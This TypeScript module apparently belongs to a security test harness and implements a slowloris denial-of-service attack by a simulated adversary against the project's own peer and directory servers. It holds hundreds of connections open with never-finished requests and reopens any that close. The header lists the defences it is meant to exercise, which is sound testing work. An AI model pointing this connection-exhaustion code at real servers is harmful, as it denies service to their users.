/**
 * slowloris: takes every place that a server has, by speaking as slowly as one can.
 *
 * What it does: holds hundreds of connections to Bob and to the directory. On each a message has begun that never
 * ends, a piece at a time, so that it looks alive. Where one is closed she opens the next.
 * Published: R. Hansen, Slowloris HTTP DoS (2009); against Node's own HTTP server CVE-2018-12122.
 * What stops it: deadlines, a budget for each address, and no place that one keeps while others wait for it.
 */

import type { Socket } from 'node:net'
import { setTimeout as delay } from 'node:timers/promises'
import { encodeFrame, FrameType } from '../peers/protocol/frames'
import type { Attack, Mallory } from './attack'
import { deed } from './deeds'
import { noop } from './noop'

/** Connections to each victim: more than the 256 places that servers of that time had. */
const AT_ONCE = 300
/** Milliseconds between two pieces, and before a place that was lost is tried for again. */
const PAUSE = 2_000

/** What she says to each victim: how it begins, and how it goes on for ever. */
const victims: Readonly<Record<string, readonly [Uint8Array, Uint8Array]>> = {
  bob: [encodeFrame(FrameType.HELLO, Buffer.alloc(128)).subarray(0, 6), Buffer.alloc(1)],
  directory: [Buffer.from('GET /healthz HTTP/1.1\r\nHost: directory\r\n'), Buffer.from('X-And: so on\r\n')],
}

export const slowloris: Attack = {
  name: 'slowloris',
  about: 'holds hundreds of connections to Bob and to the directory, and speaks slowly',
  prepare: noop.prepare,
  /** Over when every connection was made once; what they do goes on until the phase is over. */
  async launch(mallory) {
    const names = Object.keys(victims)
    mallory.acted(deed('holds-connections', AT_ONCE, names.join(', ')))
    const all = names.flatMap((victim) => Array.from({ length: AT_ONCE }, () => victim))
    await Promise.all(
      all.map(async (victim) => {
        const socket = await mallory.call(victim)
        occupy(mallory, victim, socket).catch((error) => {
          if (!mallory.halted.aborted) throw error
        })
      }),
    )
  },
}

/** Keeps a place as long as it can, and takes another one when it is lost. */
async function occupy(mallory: Mallory, victim: string, first: Socket): Promise<void> {
  const [begin, more] = victims[victim]!
  for (let socket = first; ; socket = await mallory.call(victim)) {
    socket.once('end', () => socket.destroy())
    socket.resume().write(begin)
    while (!socket.destroyed) {
      await delay(PAUSE, null, { signal: mallory.halted })
      if (!socket.destroyed) socket.write(more)
    }
  }
}
